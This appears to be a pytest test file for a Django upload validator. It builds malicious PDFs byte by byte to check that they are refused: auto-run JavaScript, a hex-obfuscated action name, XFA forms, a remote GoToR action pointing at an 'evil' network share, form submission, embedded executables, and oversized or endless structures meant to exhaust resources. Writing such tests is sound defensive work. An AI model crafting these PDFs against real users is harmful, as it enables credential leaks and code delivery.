"""PDF files that are made to do harm, written byte by byte: what acts, wherever it stands, and what takes time or room."""

import zlib
from contextlib import suppress
from time import monotonic

import pikepdf
import pytest
from django.core.exceptions import ValidationError

from itdrift import pdf_actions
from itdrift.uploads import kind_of

from ..onboarding.letters.files import pdf as made

PAGES = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
}
TOO_LARGE = "har fler eller större delar än som kan granskas. Skriv ut"


def catalog(more=b""):
    return b"<< /Type /Catalog /Pages 2 0 R %s >>" % more


def pdf(root, trailer=None, **objects):
    out = b"%PDF-1.7\n"
    for number, body in ({1: root} | PAGES | {int(key[1:]): body for key, body in objects.items()}).items():
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return out + b"trailer\n<< /Size 9 /Root %s >>\nstartxref\n0\n%%%%EOF" % (trailer or b"1 0 R")


def stream(content, said=b""):
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), said, content)


def attached(name, content, said=b""):
    return pdf(
        catalog(b"/Names << /EmbeddedFiles << /Names [(x) 5 0 R] >> >>"),
        _4=stream(content, said),
        _5=b"<< /Type /Filespec /F (%s) /EF << /F 4 0 R >> >>" % name,
    )


SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
ACTS = {
    "a script at the root in the trailer": (pdf(catalog(), catalog(b"/OpenAction " + SCRIPT)), "innehåller JavaScript"),
    "a script in what a stream says of itself": (pdf(catalog(), _4=stream(b"", b"/A " + SCRIPT)), "JavaScript"),
    "a script deep inside": (pdf(catalog(), _4=b"[" * 50 + SCRIPT + b"]" * 50), "JavaScript"),
    "a name in other signs": (pdf(catalog(b"/OpenAction << /S /J#61vaScript >>")), "JavaScript"),
    "a form of scripts": (pdf(catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>"), _4=stream(b"<x/>")), "XFA"),
    "goes to a share": (pdf(catalog(rb"/OpenAction << /S /GoToR /F (\\\\evil\\s\\x.pdf) >>")), "hämtar eller skickar"),
    "sends a form": (pdf(catalog(b"/OpenAction 4 0 R"), _4=b"<< /S /SubmitForm >>"), "hämtar eller skickar"),
    "sends one after another": (
        pdf(catalog(b"/OpenAction 4 0 R"), _4=b"<< /S /Named /Next [<< /S /ImportData >>] >>"),
        "hämtar eller skickar",
    ),
    "goes on for ever": (pdf(catalog(b"/OpenAction 4 0 R"), _4=b"<< /Next 4 0 R >>"), "hämtar eller skickar"),
    "when a page opens": (pdf(catalog(), _4=b"<< /AA << /O << /S /GoToE >> >> >>"), "hämtar eller skickar"),
    "a program by its name": (attached(b"a.exe", b"x"), "bifogad fil"),
    "a program by its content": (attached(b"a.txt", b"MZ"), "bifogad fil"),
    "a packed program": (attached(b"a.txt", zlib.compress(b"MZ"), b"/Filter /FlateDecode"), "bifogad fil"),
}


@pytest.mark.parametrize("what", ACTS)
def test_what_acts_is_refused_wherever_it_stands(what):
    content, why = ACTS[what]
    with pytest.raises(ValidationError, match=why):
        kind_of("a.pdf", content)


HARMLESS = {
    "opens at a page": pdf(catalog(b"/OpenAction [3 0 R /Fit]")),
    "goes to a page": pdf(catalog(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
    "an invoice with its figures": attached(b"faktura.xml", zlib.compress(b"<x/>"), b"/Filter /FlateDecode"),
    "a button that sends": pdf(catalog(), _4=b"<< /Subtype /Widget /A << /S /SubmitForm >> >>"),
}


@pytest.mark.parametrize("what", HARMLESS)
def test_what_people_save_is_taken_in(what):
    assert kind_of("a.pdf", HARMLESS[what]).suffixes == (".pdf",)


@pytest.mark.parametrize("inside", [b"<</A 1>>", b"1 ", b"(x)", b"<</S/JavaScripts>>", b"[<</AA 1>>]"])
def test_a_wide_one_takes_no_time(inside):
    content, began = pdf(catalog(), _4=b"[" + inside * 1_500_000 + b"]"), monotonic()
    with pytest.raises(ValidationError, match=TOO_LARGE):
        kind_of("a.pdf", content * 2)
    assert monotonic() - began < 2


def test_one_with_a_mark_and_much_more_takes_no_time():
    content, began = pdf(catalog(), _4=b"[/JS " + b"[]" * 300_000 + b"]"), monotonic()
    with pytest.raises(ValidationError, match=TOO_LARGE):
        kind_of("a.pdf", content)
    assert monotonic() - began < 2


def test_streams_that_never_end_take_no_time():
    began = monotonic()
    with suppress(ValidationError):
        kind_of("a.pdf", pdf(catalog(), _4=b"<<>>\nstream\n" * 100_000))
    assert monotonic() - began < 2


def objects_in_a_stream(change):
    return made(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def test_objects_that_are_packed_are_counted(monkeypatch):
    content = objects_in_a_stream(lambda to: setattr(to.Root, "X", pikepdf.Array([1] * 3000)))
    assert kind_of("a.pdf", content).suffixes == (".pdf",)
    monkeypatch.setattr(pdf_actions, "WORDS", 2500)
    with pytest.raises(ValidationError, match=TOO_LARGE):
        kind_of("a.pdf", content)


def test_a_script_in_packed_objects_is_found():
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    with pytest.raises(ValidationError, match="JavaScript"):
        kind_of("a.pdf", objects_in_a_stream(lambda to: setattr(to.Root, "OpenAction", script)))
